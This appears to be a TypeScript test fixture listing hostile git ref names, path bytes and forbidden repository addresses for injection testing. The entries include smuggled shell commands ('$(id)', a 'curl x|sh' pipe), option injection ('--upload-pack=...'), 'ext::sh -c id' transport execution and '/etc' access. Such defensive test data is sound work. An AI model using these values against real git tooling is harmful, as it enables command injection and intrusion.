/** Refs that git accepts and a shell, a glob or an option parser would make something else of. */
export const HOSTILE_REFS: readonly string[] = [
  "refs/heads/$(id)",
  "refs/heads/--upload-pack=x",
  "refs/heads/a';curl x|sh;'",
  "refs/heads/`id`",
  "refs/heads/*",
  "refs/heads/😀/\u202e/é",
  `refs/heads/${"a/".repeat(2_000)}b`,
];

/** Paths as bytes, one after the other in answers of git. */
export const HOSTILE_PATHS: readonly (readonly [name: string, bytes: Uint8Array])[] = [
  ["P1 a newline", Buffer.from("a\nb.txt")],
  ["P2 a byte that is not UTF-8", Uint8Array.from([0x62, 0x61, 0x64, 0xff, 0x2e, 0x74])],
  ["P2 four kilobytes of them", new Uint8Array(4_096).fill(0xff)],
  ["P2 an encoded surrogate", Uint8Array.from([0x61, 0xed, 0xb3, 0xbf])],
  ["P5 a pathspec", Buffer.from(":(glob)/f")],
  ["P5 an exclusion", Buffer.from(":!x")],
  ["P6 a command", Buffer.from("$(id) 'a' \"b\"\tc")],
  ["P6 four kilobytes", Buffer.from("d/".repeat(2_047))],
  ["P6 an option", Buffer.from("--output=x")],
  ["P6 a key of every object", Buffer.from("__proto__/constructor")],
];

/** Addresses of repositories that are not fetched from. */
export const FORBIDDEN_ADDRESSES: readonly string[] = [
  "ext::sh -c id",
  "file:///etc",
  "--upload-pack=touch /tmp/x",
  "http://example.com/a.git",
  "https://user:secret@example.com/a.git",
  "ssh://example.com/a.git",
  "/etc",
];
